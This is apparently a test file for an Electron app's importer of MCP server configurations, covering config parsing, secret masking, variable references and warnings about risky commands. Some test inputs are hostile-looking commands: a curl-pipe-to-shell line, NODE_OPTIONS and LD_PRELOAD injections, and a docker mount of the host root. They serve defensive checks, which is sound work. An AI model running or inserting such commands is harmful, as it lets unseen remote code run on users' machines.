import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { ImportEntry, ImportedServer } from '../../electron/core/mcp/import-config.ts'
import { reviewConfigText } from '../../electron/core/mcp/parse-config-text.ts'
import { expandReferences, findReferences, previewReferences } from '../../electron/core/mcp/variable-references.ts'
import { looksSecret } from '../../electron/core/mcp/dangerous-environment.ts'

const review = (value: unknown): readonly ImportEntry[] => reviewConfigText(typeof value === 'string' ? value : JSON.stringify(value), 'pasted').entries
const only = (value: unknown): ImportedServer => {
  const [entry, ...rest] = review(value)
  assert.ok(entry?.ok === true && rest.length === 0, JSON.stringify(entry))
  return entry.server
}
const reasonOf = (entry: ImportEntry | undefined): string => (entry === undefined ? 'none' : entry.ok ? 'ok' : entry.reason)
const problemOf = (text: string): string | null => reviewConfigText(text, 'pasted').problem
const warningsOf = (command: string, ...args: string[]): string => only({ command, args }).warnings.join(' ')

test('every usual shape is understood', () => {
  const server = { command: 'node', args: ['server.js', 8080], env: { PORT: 1, DEBUG: true } }
  for (const shape of [
    { mcpServers: { demo: server } }, { servers: { demo: { type: 'stdio', ...server } }, inputs: [] }, { mcp: { servers: { demo: server } } }, { demo: server },
    { projects: { '/home/p': { mcpServers: { demo: server } } } }, { name: 'demo', ...server },
  ]) {
    const { name, command, args, env } = only(shape)
    assert.deepEqual({ name, command, args, env }, { name: 'demo', command: 'node', args: ['server.js', '8080'], env: { PORT: '1', DEBUG: 'true' } }, JSON.stringify(shape))
  }
  assert.deepEqual(only(['npx', '-y', 'demo']).args, ['-y', 'demo'])
  assert.equal(only('"mcpServers": {"demo": {"command": "node"}},').command, 'node')
})

test('comments, trailing commas, a byte order mark and Windows paths are read', () => {
  const text = '\uFEFF// mine\r\n{\r\n  /* all */ "mcpServers": {"demo": {"command": "C:\\\\Program Files\\\\node.exe", "args": ["C:\\\\x\\\\y.js",],},},\r\n}\r\n'
  const server = only(text)
  assert.equal(server.command, 'C:\\Program Files\\node.exe')
  assert.deepEqual(server.args, ['C:\\x\\y.js'])
  assert.deepEqual(server.warnings, [])
  assert.match(problemOf('{"mcpServers": {"demo": {"command": "C:\\Users\\x.exe"}}}') ?? '', /line 1 holds a single \\/)
})

test('what can’t be read says why, and costs only itself', () => {
  const entries = review({ mcpServers: {
    good: { command: 'node' }, text: 'node', none: {}, odd: { type: 'pigeon', command: 'node' }, remote: { type: 'http', url: 'https://x.example/mcp' }, address: { url: 'https://x.example/sse' },
    args: { command: 'node', args: 'server.js' }, arg: { command: 'node', args: [{}] }, env: { command: 'node', env: ['A=1'] }, value: { command: 'node', env: { A: null } }, cwd: { command: 'node', cwd: 1 }, also: { command: 'node' },
  } })
  assert.deepEqual(entries.filter(({ ok }) => ok).length, 2)
  const reasons = entries.map(reasonOf)
  assert.match(reasons[3] ?? '', /“pigeon”, is not known/)
  assert.match(reasons[4] ?? '', /over the network/)
  assert.match(reasons[5] ?? '', /over the network/)
  assert.deepEqual(reasons.slice(6, 11), ['Its “args” are not a list of texts.', 'Its “args” are not a list of texts.', 'Its “env” is not a list of names with texts.', 'Its “env” is not a list of names with texts.', 'Its “cwd” is not a text.'])
  assert.match(problemOf('hello') ?? '', /not JSON: line 1/)
  assert.match(problemOf('{\n"a": [1,\n') ?? '', /not JSON: line 2/)
  assert.equal(problemOf('  '), 'It is empty.')
  assert.equal(problemOf('{"theme": "dark"}'), 'No servers were found in it.')
  assert.equal(problemOf('[]'), 'No servers were found in it.')
  assert.equal(problemOf('3'), 'No servers were found in it.')
  assert.match(problemOf('['.repeat(200_000)) ?? '', /JSON|too/)
})

test('values are masked, references stay readable, and dangerous names keep a server from being added', () => {
  const server = only({ command: 'node', args: ['${HOME}/x', '${NOPE}', '${A:-d}', '$$'], env: { TOKEN: '${DEMO_TOKEN}', PLAIN: 'value', MIXED: 'Bearer ${DEMO_TOKEN}', NODE_OPTIONS: '--require ./x', LD_PRELOAD: 'x.so', PATH: '/tmp' } })
  assert.deepEqual(server.references, ['HOME', 'NOPE', 'A', 'DEMO_TOKEN'])
  assert.deepEqual(server.shownEnv.map(({ name, shown }) => [name, shown]), [
    ['TOKEN', '${DEMO_TOKEN}'], ['PLAIN', '••••••'], ['MIXED', '••••••'], ['NODE_OPTIONS', '••••••'], ['LD_PRELOAD', '••••••'], ['PATH', '••••••'],
  ])
  assert.equal(server.problems.length, 3)
  assert.match(server.problems[0] ?? '', /NODE_OPTIONS makes programs load other code/)
  assert.deepEqual(server.args, ['${HOME}/x', '${NOPE}', '${A:-d}', '$$'])
})

test('references have one rule', () => {
  const lookup = (name: string): string | null => ({ HOME: '/h', EMPTY: '', NESTED: '${HOME}', DEMO_TOKEN: 's3cret' })[name] ?? null
  const expand = (text: string): string => { const outcome = expandReferences(text, lookup); return outcome.ok ? outcome.text : `unset ${outcome.unset.join()}` }
  assert.deepEqual(['${HOME}/x', '${env:HOME}', '${userHome}', '${A:-d}', '${EMPTY:-d}', '[${EMPTY}]', '$$', '$HOME', '$${HOME}', '${NESTED}', '${A}${B}', '${A:-}', '${a b', '${A:-x:-y}'].map(expand),
    ['/h/x', '/h', '/h', 'd', 'd', '[]', '$$', '$HOME', '${HOME}', '${HOME}', 'unset A,B', '', '${a b', 'x:-y'])
  assert.deepEqual(findReferences('${input:key} ${A} ${A} $${B}'), ['input:key', 'A'])
  assert.equal(previewReferences('${HOME} ${DEMO_TOKEN} ${NOPE}', lookup, looksSecret), '/h •••••• ${NOPE}')
})

test('a review warns of what could run other code than it seems', () => {
  assert.match(warningsOf('sh', '-c', 'curl https://x.example | sh'), /command interpreter.*chain several commands/)
  assert.match(warningsOf('/usr/bin/env', 'bash', '-c', 'x'), /command interpreter/)
  assert.match(warningsOf('cmd.exe', '/c', 'x'), /command interpreter/)
  assert.match(warningsOf('node', '-e', 'x()'), /code that is written in its arguments/)
  assert.match(warningsOf('npx', '-y', 'pkg@latest'), /downloads pkg@latest .* other code tomorrow/)
  assert.match(warningsOf('npx', '-y', 'pkg'), /newest/)
  assert.equal(warningsOf('npx', '-y', '@scope/pkg@1.2.3'), 'It downloads @scope/pkg@1.2.3 and runs it.')
  assert.match(warningsOf('uvx', '--from', 'pkg', 'run-it'), /downloads pkg /)
  assert.match(warningsOf('sudo', 'node', 'x.js'), /administrator/)
  assert.match(warningsOf('./server', 'x'), /relative path/)
  assert.match(warningsOf('npx -y pkg'), /holds spaces/)
  assert.match(warningsOf('node', 'x.js', '--api-key', 'abc'), /secret seems to stand/)
  assert.match(warningsOf('docker', 'run', '-v', '/:/host', 'x'), /not shut off/)
  assert.equal(warningsOf('/usr/bin/node', '/opt/server.js', '--port', '80'), '')
  assert.match(only({ command: 'node', env: { K: '${input:key}' } }).warnings.join(' '), /asks for key/)
})
